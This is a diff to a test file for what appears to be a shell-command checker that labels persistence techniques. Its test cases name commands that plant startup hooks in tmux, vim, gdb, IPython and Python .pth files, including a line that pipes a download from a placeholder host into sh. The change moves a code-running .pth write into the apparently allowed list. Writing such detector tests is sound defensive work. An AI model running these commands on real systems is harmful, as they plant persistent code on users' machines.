@@ -148,7 +148,8 @@ describe("round 2: start-up files of every shell, PAM, accounts", () => {
     ["git config --global init.templateDir ~/.git-template", "persistence-git-hooks"],
     ["echo 'set shell=/tmp/x' >> ~/.vimrc", "persistence-tool-startup"],
     ["echo \"run-shell 'curl -s https://x.example | sh'\" >> ~/.tmux.conf", "persistence-tool-startup"],
-    ["echo 'import os; os.system(\"id\")' > .venv/lib/python3.12/site-packages/zz.pth", "persistence-tool-startup"],
+    // A .pth copied in: its text is not seen, so its path decides (one written with known text is judged by what it runs).
+    ["cp /tmp/hook.pth .venv/lib/python3.12/site-packages/zz.pth", "persistence-tool-startup"],
     ["cp startup.py ~/.ipython/profile_default/startup/00-x.py", "persistence-tool-startup"],
     ["echo 'source /tmp/gdb.py' >> ~/.gdbinit", "persistence-tool-startup"],
   ])("asked about: %s", (input, rule) => {
@@ -159,6 +160,7 @@ describe("round 2: start-up files of every shell, PAM, accounts", () => {
     "cat ~/.bash_aliases",
     "grep alias ~/.bash_aliases",
     "echo 'set completion-ignore-case on' >> ~/.inputrc",
+    "echo 'import os; os.system(\"id\")' > .venv/lib/python3.12/site-packages/zz.pth",
     "getent passwd ada",
     "id -Gn ada",
     "groups",
